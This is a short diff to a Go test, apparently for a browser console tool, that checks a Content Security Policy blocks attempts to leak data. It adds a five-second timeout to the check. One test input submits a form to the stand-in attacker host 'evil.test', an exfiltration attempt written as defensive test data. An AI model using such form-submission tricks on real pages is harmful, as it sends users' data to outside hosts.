@@ -287,7 +287,8 @@ func (c *console) keepsToItself(t *testing.T) {
 		"form-action":     `const f = document.createElement("form"); f.action = "http://evil.test/"; document.body.append(f); f.submit()`,
 	} {
 		got := eval[string](c.tab, `new Promise((told) => {
-			document.addEventListener("securitypolicyviolation", (e) => told(e.effectiveDirective), { once: true }); `+attempt+` })`)
+			document.addEventListener("securitypolicyviolation", (e) => told(e.effectiveDirective), { once: true });
+			setTimeout(() => told("nothing within 5 s"), 5000); `+attempt+` })`)
 		if got != what || eval[string](c.tab, "document.title") == "taken" {
 			t.Errorf("%s is not refused: %s", what, got)
 		}
